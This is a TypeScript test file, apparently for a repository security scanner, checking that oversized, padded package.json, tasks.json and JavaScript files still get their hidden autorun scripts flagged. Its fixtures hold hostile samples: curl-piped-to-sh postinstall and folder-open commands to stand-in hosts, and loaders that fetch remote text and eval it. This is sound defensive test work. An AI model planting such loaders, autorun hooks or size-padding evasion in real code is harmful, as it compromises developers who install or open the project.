/**
 * Hostile input: padding that pushes what runs past the read and parse caps. A package.json or
 * tasks.json over 16 MiB with its script or task at the end, a JavaScript entry padded past
 * 8 MiB with ordinary lines and its loader at the end: all used to give `pass`. The oversize
 * manifests are now critical findings and their scripts and tasks are still mapped (a
 * bounded-memory outline read); the padded entry is a high finding and its loader is still found
 * (its head and tail are parsed, with their real line numbers).
 */
import assert from 'node:assert/strict';
import { closeSync, openSync, writeSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import type { Report } from '../../src/core/types.ts';
import { readTextIfText } from '../../src/fs/read.ts';
import { findingsOf, scanFixture, tempRepo } from '../helpers/fixtures.ts';

const MiB = 1024 * 1024;

const gaps = (r: Report): [string, string, string | undefined][] =>
  findingsOf(r, 'scan/incomplete-analysis').map(f => [f.severity, f.location.file, r.errors.find(e => e.file === f.location.file)?.kind]);

describe('hostile: padding past the read caps', () => {
  it('a 17 MiB package.json: critical, and its postinstall is still mapped at its line', async () => {
    const body = [
      '{',
      '  "name": "take-home",',
      `  "description": "${'a'.repeat(17 * MiB)}",`,
      '  "scripts": {',
      '    "postinstall": "curl -s https://cdn.example.invalid/p.sh | sh"',
      '  }',
      '}',
      '',
    ].join('\n');
    const report = await scanFixture(tempRepo({ 'package.json': body }));
    assert.deepEqual(gaps(report), [['critical', 'package.json', 'too-large']]);
    assert.equal(report.findings[0]?.ruleId, 'scan/incomplete-analysis');
    assert.equal(report.verdict, 'block');
    const script = findingsOf(report, 'autorun/npm-lifecycle-script');
    assert.deepEqual(
      script.map(f => [f.severity, f.location.file, f.location.line]),
      [['critical', 'package.json', 5]],
    );
  });

  it('a 17 MiB tasks.json: critical, and its folder-open task is still mapped at its line', async () => {
    const body = [
      '{',
      '  "version": "2.0.0",',
      `  // ${'padding '.repeat((17 * MiB) / 8)}`,
      '  "tasks": [',
      '    {',
      '      "label": "setup",',
      '      "type": "shell",',
      '      "command": "curl -s https://cdn.example.invalid/t.sh | sh",',
      '      "runOptions": { "runOn": "folderOpen" }',
      '    }',
      '  ]',
      '}',
      '',
    ].join('\n');
    const report = await scanFixture(tempRepo({ '.vscode/tasks.json': body }));
    assert.deepEqual(gaps(report), [['critical', '.vscode/tasks.json', 'too-large']]);
    const surfaces = report.executionMap.filter(s => s.trigger === 'open').map(s => [s.location.file, s.location.line, s.command]);
    assert.deepEqual(surfaces, [['.vscode/tasks.json', 8, 'curl -s https://cdn.example.invalid/t.sh | sh']]);
    assert.ok(findingsOf(report, 'autorun/vscode-folder-open-task', 'high').length > 0);
  });

  it('a JavaScript entry padded past 8 MiB: high, and the loader at its end is still found at its line', async () => {
    const pad = Array.from({ length: 9 * 1024 * 16 }, (_, i) => `const padding_${i} = "${'x'.repeat(40)}";`).join('\n');
    const loader = [
      'const http = require("http");',
      'http.get("http://203.0.113.10:1224/api/checkStatus", res => {',
      '  let body = "";',
      '  res.on("data", chunk => (body += chunk));',
      '  res.on("end", () => eval(JSON.parse(body).message));',
      '});',
      '',
    ].join('\n');
    const text = `${pad}\n${loader}`;
    const evalLine = text.split('\n').findIndex(l => l.includes('eval(')) + 1;
    assert.ok(text.length > 8 * MiB && text.length < 16 * MiB);
    const report = await scanFixture(
      tempRepo({ 'package.json': '{ "scripts": { "postinstall": "node server.js" } }\n', 'server.js': text }),
    );
    assert.deepEqual(gaps(report), [['high', 'server.js', 'too-large']]);
    const rce = findingsOf(report, 'code/remote-code-execution');
    assert.deepEqual(
      rce.map(f => [f.severity, f.location.file, f.location.line]),
      [['critical', 'server.js', evalLine]],
    );
  });

  it('a JavaScript entry over 16 MiB: its tail is read too, with its real line numbers', async () => {
    const pad = '// padding line of an ordinary length, repeated many times over\n'.repeat((17 * MiB) / 64);
    const loader =
      'const http = require("http");\nhttp.get("http://203.0.113.10:1224/a", r => { let b = ""; r.on("data", c => (b += c)); r.on("end", () => eval(b)); });\n';
    const text = pad + loader;
    const evalLine = text.split('\n').length - 1;
    const report = await scanFixture(tempRepo({ 'package.json': '{ "scripts": { "postinstall": "node big.js" } }\n', 'big.js': text }));
    assert.deepEqual(gaps(report), [['high', 'big.js', 'too-large']]);
    assert.deepEqual(
      findingsOf(report, 'code/remote-code-execution').map(f => [f.severity, f.location.file, f.location.line]),
      [['critical', 'big.js', evalLine]],
    );
  });

  it('a 64 MiB JavaScript entry of line breaks only: the text read stays at the cap, the tail keeps its real lines', async () => {
    // eval at line 1, 64 MiB of line breaks, eval again at line 67,108,866 (the 1 GiB case's
    // shape; written in chunks, never as one string).
    const line = 'eval(process.argv[2]);\n';
    const dir = tempRepo({ 'package.json': '{ "scripts": { "postinstall": "node s.js" } }\n' });
    const fd = openSync(join(dir, 's.js'), 'w');
    writeSync(fd, line);
    const breaks = Buffer.alloc(8 * MiB, 0x0a);
    for (let i = 0; i < 8; i++) writeSync(fd, breaks);
    writeSync(fd, line);
    closeSync(fd);
    const size = 64 * MiB + 2 * line.length;
    const lastLine = 64 * MiB + 2;

    // The work is bounded by the cap, not by the file: its first 12 MiB and last 4 MiB, joined
    // directly (no line break of the middle is copied), and one pair that renumbers the tail.
    const read = readTextIfText(dir, { path: 's.js', size, type: 'file', content: 'text', encoding: 'utf8', inNodeModules: false });
    assert.equal(read?.text.length, 12 * MiB + 4 * MiB - 1);
    // The head holds line 1 and 12 MiB - 23 line breaks; the tail's first line starts at the
    // file's byte size - 4 MiB + 1, after 62,914,585 line breaks: it is the file's line 62,914,586.
    assert.deepEqual(read.lineShift, { from: 12 * MiB - line.length + 2, add: 62_914_586 - (12 * MiB - line.length + 2) });
    assert.equal(
      read.omitted,
      `${size - 4 * MiB + 1 - 12 * MiB} bytes in the middle (${size - 4 * MiB + 1 - 12 * MiB} lines) were not read; the first ${12 * MiB} and the last ${4 * MiB - 1} bytes were`,
    );

    const report = await scanFixture(dir);
    assert.deepEqual(gaps(report), [['high', 's.js', 'too-large']]);
    assert.deepEqual(
      report.errors.filter(e => e.file === 's.js').map(e => e.kind),
      ['too-large', 'too-large'],
    );
    // Both ends analysed, each at the file's own line; the code frame around the last is there too.
    assert.deepEqual(
      findingsOf(report, 'code/dynamic-code')
        .map(f => [f.severity, f.location.line ?? 0] as const)
        .sort((a, b) => a[1] - b[1]),
      [
        ['medium', 1],
        ['medium', lastLine],
      ],
    );
    const hidden = findingsOf(report, 'code/hidden-code').map(f => [f.severity, f.location.line]);
    assert.deepEqual(hidden, [['high', lastLine]]);
    const atEnd = report.findings.find(f => f.location.file === 's.js' && f.location.line === lastLine);
    assert.equal(atEnd?.snippet?.startLine, lastLine - 2);
    assert.equal(atEnd.snippet.lines[2], 'eval(process.argv[2]);');
  });
});
